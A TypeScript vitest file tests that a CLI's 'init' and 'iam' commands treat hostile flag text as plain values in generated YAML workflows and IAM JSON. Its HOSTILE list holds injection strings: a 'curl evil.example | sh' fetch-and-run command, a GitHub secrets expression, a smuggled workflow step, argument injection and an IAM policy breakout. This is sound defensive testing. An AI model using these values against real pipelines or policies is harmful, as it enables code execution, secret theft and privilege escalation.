import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { parse, parseAllDocuments } from 'yaml';
import { QUESTIONS } from '../../../src/cli/flags/init-questions.ts';
import { run } from '../../../src/cli/run.ts';
import { STRANGE_NAMES } from '../../campaign/strange-names.ts';
import { sized } from '../../long.ts';

const HOSTILE = [
  ...STRANGE_NAMES,
  "'",
  '"',
  '"; curl evil.example | sh; "',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow, a parameter of a template
  '${{ secrets.GITHUB_TOKEN }}',
  'x: y',
  'x\n      - run: evil',
  '# x',
  '*',
  '&a',
  '!!js/function',
  '|',
  '{{x}}',
  '*.example',
  '-x',
  '--config=evil',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an expression of a workflow, a parameter of a template
  '${AWS::AccountId}',
  '"}]},{"Effect":"Allow"',
];

/** In `npm test` each flag is given every twentieth text, and no flag the same ones as the next. */
const EVERY = sized(20, 1);
const hostileTo = (flag: number): readonly string[] => HOSTILE.filter((_, index) => index % EVERY === flag % EVERY);

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 's3log-audit-test-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

async function runOnce(argv: readonly string[]) {
  let out = '';
  const stream = (keep: boolean) =>
    new Writable({
      write: (chunk, _encoding, done) => {
        if (keep) out += String(chunk);
        done();
      },
    });
  const signal = new AbortController().signal;
  const code = await run({ argv, out: stream(true), err: stream(false), env: {}, now: () => new Date(0), signal });
  return { code, out };
}

/** The document with its keys, and its texts replaced by one: what a value can change if it stays a value. */
const shapeOf = (value: unknown): unknown => {
  if (Array.isArray(value)) return value.map(shapeOf);
  if (typeof value !== 'object' || value === null) return '';
  return Object.fromEntries(Object.entries(value).map(([key, one]) => [key, shapeOf(one)]));
};

/** A role may stand in a path, which is a member of its own then. */
const isPath = (flag: string, text: string): boolean => /role/.test(flag) && text.includes('/');

const GIVEN = { '--hub-account': '111122223333', '--repository': 'example-org/audits', '--package': '' };

const filesIn = async (path: string): Promise<Readonly<Record<string, unknown>>> => {
  const names = (await readdir(path, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
  const found: [string, unknown][] = [];
  for (const { name, parentPath } of names)
    if (/\.(ya?ml|json)$/.test(name))
      found.push([
        name,
        parseAllDocuments(await readFile(join(parentPath, name), 'utf8')).map((one) => shapeOf(one.toJS())),
      ]);
  return Object.fromEntries(found.sort(([a], [b]) => (a < b ? -1 : 1)));
};

async function init(name: string, flags: Readonly<Record<string, string>>) {
  const to = join(folder, name);
  const { code } = await runOnce([
    ...['init', '--yes', '--folder', to],
    ...Object.entries(flags).map(([flag, value]) => `${flag}=${value}`),
  ]);
  return { code, files: code === 0 ? await filesIn(to) : null };
}

/** Answers that add a step or a condition. */
const CHANGES_MORE = ['--shards', '--external-id', '--organization-id', '--package'];

test.each(QUESTIONS.map(({ flag }, nth) => [flag, nth] as const))(
  'init %s takes no text for more than a value',
  async (flag, nth) => {
    const plain = await init(`plain${flag}`, GIVEN);
    expect(plain.code).toBe(0);
    for (const [index, text] of hostileTo(nth).entries()) {
      const { code, files } = await init(`hostile${flag}-${index}`, { ...GIVEN, [flag]: text });
      // Some are values: a branch may be called `constructor`.
      if (code === 0) expect([text, Object.keys(files ?? {})]).toEqual([text, Object.keys(plain.files ?? {})]);
      else expect([text, code]).toEqual([text, 2]);
      if (code === 0 && !isPath(flag, text) && !CHANGES_MORE.includes(flag))
        expect([text, files]).toEqual([text, plain.files]);
    }
  },
);

const PRINTED = [
  ['hub', 'yaml'],
  ['member', 'json'],
] as const;
const IAM_FLAGS = ['--partition', '--role-name', '--hub-account', '--hub-role', '--organization-id', '--external-id'];

test.each(IAM_FLAGS.map((flag, nth) => [flag, nth] as const))(
  'iam %s takes no text for more than a value',
  async (flag, nth) => {
    for (const [part, format] of PRINTED) {
      const plain = [part, '--format', format, '--hub-account=111122223333', '--hub-role=Hub'];
      const harmless = { '--partition': 'aws-cn', '--organization-id': 'o-abcdefghij' }[flag] ?? 'harmless';
      const usual = await runOnce(['iam', ...plain, `${flag}=${flag === '--hub-account' ? '444455556666' : harmless}`]);
      for (const text of hostileTo(nth)) {
        const { code, out } = await runOnce(['iam', ...plain, `${flag}=${text}`]);
        if (code !== 0) expect([text, code]).toEqual([text, 2]);
        else if (!isPath(flag, text)) expect([text, shapeOf(parse(out))]).toEqual([text, shapeOf(parse(usual.out))]);
      }
    }
  },
);
